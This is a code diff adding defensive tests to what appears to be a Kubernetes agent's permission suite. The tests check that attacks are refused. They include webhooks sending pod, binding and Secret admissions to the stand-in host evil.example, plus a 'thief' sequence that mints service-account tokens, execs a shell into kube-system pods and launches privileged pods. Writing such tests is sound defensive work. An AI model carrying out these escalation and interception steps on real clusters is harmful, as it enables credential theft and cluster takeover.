@@ -181,7 +181,27 @@ describe('what nobody can make the agent do', () => {
     return apply(agent, bindingOf('redis-operator', role, operator));
   };
 
+  const webhook = (name: string, apiGroups: string[], resources: string[], kind = 'MutatingWebhookConfiguration') =>
+    apply(agent, {
+      apiVersion: 'admissionregistration.k8s.io/v1',
+      kind,
+      metadata: { name },
+      webhooks: [
+        {
+          name: 'a.evil.example',
+          admissionReviewVersions: ['v1'],
+          sideEffects: 'None',
+          clientConfig: { url: 'https://evil.example' },
+          rules: [{ apiGroups, apiVersions: ['*'], operations: ['CREATE'], resources }],
+        },
+      ],
+    });
+
   const attacks: Attack[] = [
+    ['change every resource by a webhook of a name it may write', () => webhook('cert-manager-webhook', ['*'], ['*'])],
+    ['change pods everywhere by the webhook of the AWS controller', () => webhook('aws-load-balancer-webhook', [''], ['pods'])],
+    ['change bindings by a webhook', () => webhook('cert-manager-webhook', ['rbac.authorization.k8s.io'], ['clusterrolebindings'])],
+    ['read new Secrets by a webhook', () => webhook('istio-validator', [''], ['secrets'], 'ValidatingWebhookConfiguration')],
     ['bind cluster-admin under a name it may write', () => bindAnew('cluster-admin')],
     [
       'bind admin in one of its namespaces',
@@ -482,6 +502,44 @@ describe('what nobody can make the agent do', () => {
   it.each(attacks)('refuses to %s', async (_name, run) => {
     const { status, message, body } = await run();
     expect(status, message ?? body).toBe(403);
+  });
+
+  it('refuses to pass rights on to an account that no limit holds for', async () => {
+    // What a thief writes: a role with what the agent holds, bound to an account whose pods he writes too.
+    const rules = [{ apiGroups: [''], resources: ['pods', 'pods/exec', 'secrets'], verbs: ['create', 'patch'] }];
+    expect((await apply(agent, roleOf('cloudnative-pg', rules))).message).not.toContain('forbidden');
+    for (const namespace of ['battery-base', 'kube-system'])
+      await apply(
+        cluster.api,
+        { apiVersion: 'v1', kind: 'ServiceAccount', metadata: { name: 'default', namespace } },
+        { manager: 'admin' },
+      );
+    const thief = kubeApi({ url: cluster.url, caPem: cluster.caPem, token: await tokenOf('battery-core', 'cloudnative-pg') });
+    const post = (path: string, spec: object = {}) =>
+      thief.send('POST', `/api/v1/namespaces/${path}`, { apiVersion: 'v1', kind: 'Pod', metadata: { name: 'thief' }, spec });
+    const plain = podSpec({ automountServiceAccountToken: false });
+    const secret = (type: string) =>
+      thief.send('POST', '/api/v1/namespaces/kube-system/secrets?dryRun=All', {
+        apiVersion: 'v1',
+        kind: 'Secret',
+        metadata: { name: 'thief', annotations: { 'kubernetes.io/service-account.name': 'default' } },
+        type,
+      });
+    const answers = {
+      certificate: await secret('Opaque'),
+      token: await secret('kubernetes.io/service-account-token'),
+      inOwn: await post('battery-base/pods?dryRun=All', plain),
+      inSystem: await post('kube-system/pods?dryRun=All', plain),
+      intoSystem: await post('kube-system/pods/theirs/exec?command=sh&stdout=true'),
+      privileged: await post('battery-base/pods?dryRun=All', { ...plain, ...inContainer({ privileged: true }) }),
+    };
+    thief.close();
+    expect(answers.certificate.status, answers.certificate.body).toBe(201);
+    expect(answers.token.body).toContain('home-base-agent-accounts');
+    expect(answers.inOwn.status, answers.inOwn.body).toBe(201);
+    expect(answers.inSystem.body).toContain('home-base-agent-accounts');
+    expect(answers.intoSystem.body).toContain('home-base-agent-accounts');
+    expect(answers.privileged.body).toContain('home-base-agent-account-workloads');
   });
 
   it('refuses to act as somebody else', async () => {
